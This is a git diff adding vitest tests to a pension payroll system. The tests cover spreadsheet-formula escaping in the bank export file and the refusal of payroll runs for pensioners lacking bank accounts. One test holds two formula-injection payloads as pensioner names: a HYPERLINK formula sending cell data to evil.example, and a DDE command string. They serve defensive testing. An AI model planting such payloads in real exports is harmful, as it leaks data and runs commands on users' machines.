@@ -1,4 +1,5 @@
 import { readFileSync } from 'node:fs';
+import { parse } from 'csv-parse/sync';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { FUND, SOURCES, personAccountId } from '../ledger/index.js';
 import { parseScenario, simulate } from '../policy/index.js';
@@ -199,6 +200,23 @@ describe('the monthly payroll', () => {
     expect(lines[1]).toBe(`${line.paymentId},${WORKED},张三丰,6222000000000001,${line.totalFen},${yuan},2020-06\r\n`);
   });
 
+  it('writes a name a spreadsheet would run as a formula as text in the bank file (issue 10 section 5)', () => {
+    const hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
+    const command = "+cmd|' /C calc'!A0";
+    const a = citizenNumberFor('1944-02-02', 50);
+    const b = citizenNumberFor('1944-02-02', 51);
+    stack.setToday('2020-06-15');
+    stack.registry.persons.registerPerson(personInput(a, '1944-02-02', { name: hyperlink }), TEST_OPERATOR);
+    stack.registry.persons.registerPerson(personInput(b, '1944-02-02', { name: command }), TEST_OPERATOR);
+    stack.runs.payroll('2020-06');
+    const rows = parse([...stack.runs.bankFile('2020-06')].join(''), { columns: true }) as Record<string, string>[];
+    expect(rows).toHaveLength(3);
+    const names = Object.fromEntries(rows.map((r) => [r.citizenNumber, r.name]));
+    expect(names[a]).toBe(`'${hyperlink}`);
+    expect(names[b]).toBe(`'${command}`);
+    for (const cell of rows.flatMap((r) => Object.values(r))) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+  });
+
   it('suspends months without proof of life and pays them back after a certification (POLICY: certBackPay)', () => {
     // The start counts as certifying on 2020-06-01: it holds through 2021-06.
     stack.setToday('2021-08-15');
@@ -333,6 +351,79 @@ describe('payroll transfer ids (issue 5 sections 4 and 7)', () => {
     const returned = stack.ledger.transfers({ from: '2020-08-01', limit: 100 }).filter((x) => x.code === 'correction');
     expect(returned).toEqual([expect.objectContaining({ reference: legacyId, creditAccountId: personAccountId(WORKED, 'individual'), amountFen: 100 })]);
     expect(stack.ledger.verify().ok).toBe(true);
+  });
+});
+
+describe('a payroll that would pay someone without a bank account (issue 10 section 5)', () => {
+  beforeEach(setUpWorkedExample);
+  function refusal(work: () => unknown): unknown {
+    try {
+      work();
+    } catch (error) {
+      return error;
+    }
+    return undefined;
+  }
+
+  it('is refused, dry or real, before any money moves, naming whom to fix; then it pays everyone', () => {
+    stack.setToday('2020-06-15');
+    const withAccount = citizenNumberFor('1944-02-02', 52);
+    const without = [citizenNumberFor('1944-02-02', 53), citizenNumberFor('1944-02-02', 54)];
+    stack.registry.persons.registerPerson(personInput(withAccount, '1944-02-02'), TEST_OPERATOR);
+    for (const cn of without) stack.registry.persons.registerPerson(personInput(cn, '1944-02-02', { bankAccount: undefined }), TEST_OPERATOR);
+    const transfers = transferCount(stack);
+    for (const dryRun of [true, false]) {
+      const error = refusal(() => stack.runs.payroll('2020-06', { dryRun }));
+      expect(isRunError(error), String(error)).toBe(true);
+      expect(error).toMatchObject({ code: 'bank-account-missing', status: 422, details: { citizenNumbers: without, count: 2 } });
+    }
+    expect(transferCount(stack)).toBe(transfers);
+    expect(count(stack, 'reg_payments')).toBe(0);
+    expect(stack.ledger.balance(FUND.payout).creditsFen).toBe(0);
+
+    for (const [i, cn] of without.entries()) stack.registry.persons.setBankAccount(cn, { bankAccount: `622200000000010${i}` });
+    const summary = stack.runs.payroll('2020-06');
+    expect(summary.paidPersons).toBe(4);
+    expect([...stack.runs.bankFile('2020-06')].slice(1).every((line) => /^[^,]+,[^,]+,[^,]+,\d{8,32},/.test(line))).toBe(true);
+  });
+
+  it('is not refused for a pensioner without an account whom this run does not pay, and is when it would pay them back', () => {
+    stack.setToday('2021-08-15');
+    expect(stack.runs.payroll('2021-08').suspendedCertificationMonths).toBe(2);
+    // An account cleared since (the office has no way to do it today; older data can hold it).
+    stack.db.prepare('UPDATE reg_persons SET bank_account = NULL WHERE citizen_number = ?').run(WORKED);
+    stack.setToday('2021-09-15');
+    expect(stack.runs.payroll('2021-09')).toMatchObject({ paidPersons: 0, suspendedCertificationMonths: 1 });
+    stack.setToday('2021-10-10');
+    stack.registry.recordCertification({ id: testUuid('2021-10-10'), citizenNumber: WORKED, certifiedOn: '2021-10-10', channel: 'counter' });
+    expect(refusal(() => stack.runs.payroll('2021-10'))).toMatchObject({ code: 'bank-account-missing', details: { citizenNumbers: [WORKED], count: 1 } });
+    expect(payments(stack, WORKED).filter((p) => p.month >= '2021-07').map((p) => p.status)).toEqual(['suspended-certification', 'suspended-certification', 'suspended-certification']);
+  });
+
+  it('stops at the chunk of a person whose back pay a certification released during the run', async () => {
+    const s = openTestStack({ today: '2011-10-15', chunkPersons: 1 });
+    try {
+      s.registry.persons.createVillage({ code: 'V001', name: '上坝村' });
+      const elders = [0, 1, 2].map((i) => citizenNumberFor('1944-02-02', 70 + i));
+      for (const cn of elders) s.registry.persons.registerPerson(personInput(cn, '1944-02-02'), TEST_OPERATOR);
+      // Certified through 2011-08 by the start (2010-08): 2011-09 and 2011-10 are suspended.
+      expect(s.runs.payroll('2011-10').suspendedCertificationMonths).toBe(6);
+      const last = elders[2]!;
+      s.db.prepare('UPDATE reg_persons SET bank_account = NULL WHERE citizen_number = ?').run(last);
+      s.setToday('2011-11-15');
+      for (const cn of elders.slice(0, 2)) s.registry.recordCertification({ id: testUuid('2011-11-15'), citizenNumber: cn, certifiedOn: '2011-11-15', channel: 'counter' });
+      const run = s.runs.payrollInTurns('2011-11');
+      const paidFirst = s.db.prepare("SELECT COUNT(*) AS n FROM reg_payments WHERE citizen_number = ? AND paid_run_key = 'payroll:2011-11'");
+      for (let turn = 0; turn < 1_000 && (paidFirst.get(elders[0]) as { n: number }).n === 0; turn++) await new Promise((resolve) => setImmediate(resolve));
+      s.registry.recordCertification({ id: testUuid('2011-11-15'), citizenNumber: last, certifiedOn: '2011-11-15', channel: 'counter' });
+      await expect(run).rejects.toMatchObject({ code: 'bank-account-missing', details: { citizenNumbers: [last], count: 1 } });
+      const paidOf = (cn: string) => (s.db.prepare("SELECT COUNT(*) AS n FROM reg_payments WHERE citizen_number = ? AND paid_run_key = 'payroll:2011-11'").get(cn) as { n: number }).n;
+      expect(paidOf(elders[0]!)).toBe(3);
+      expect(paidOf(last)).toBe(0);
+      expect(s.ledger.verify().ok).toBe(true);
+    } finally {
+      s.close();
+    }
   });
 });
 
